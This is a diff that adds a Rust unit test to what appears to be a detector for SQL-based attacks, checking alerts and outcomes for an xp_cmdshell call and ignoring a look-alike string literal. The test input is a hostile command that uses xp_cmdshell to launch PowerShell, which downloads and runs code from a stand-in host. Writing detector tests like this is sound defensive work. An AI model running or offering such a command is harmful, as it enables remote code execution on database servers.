@@ -41,6 +41,22 @@ fn each_attack_is_told_and_its_look_alike_is_not() {
 }
 
 #[test]
+fn what_the_commands_of_sql_run_is_told_with_the_outcome_of_the_call() {
+    let run = "EXEC xp_cmdshell 'powershell -c \"iex (irm http://203.0.113.7/a)\"'";
+    for (reply, outcome) in [(value(), Outcome::Success), (fault(), Outcome::Attempt)] {
+        let mut flow = Flow::default();
+        flow.exchange(&sql_call(run), &reply);
+        assert_eq!(flow.outcomes(9_403_003), [outcome]);
+        let powershell = object(&flow.alerts(9_403_003)[0].context, "powershell");
+        assert_eq!(text(&powershell, "script"), "iex (irm http://203.0.113.7/a)");
+    }
+    let mut flow = Flow::default();
+    flow.exchange(&sql_call(&format!("SELECT '{}'", run.replace('\'', "''"))), &value());
+    flow.end();
+    assert!(flow.alerts(9_403_003).is_empty());
+}
+
+#[test]
 fn sql_counts_by_its_spec_even_where_its_text_is_lost() {
     let spec = Spec { kind: "DbGetDataTableRemoteInvokeSpec".to_owned(), ..Spec::default() };
     let lost = Call { spec: Some(spec), truncated: true, ..call("Other") };
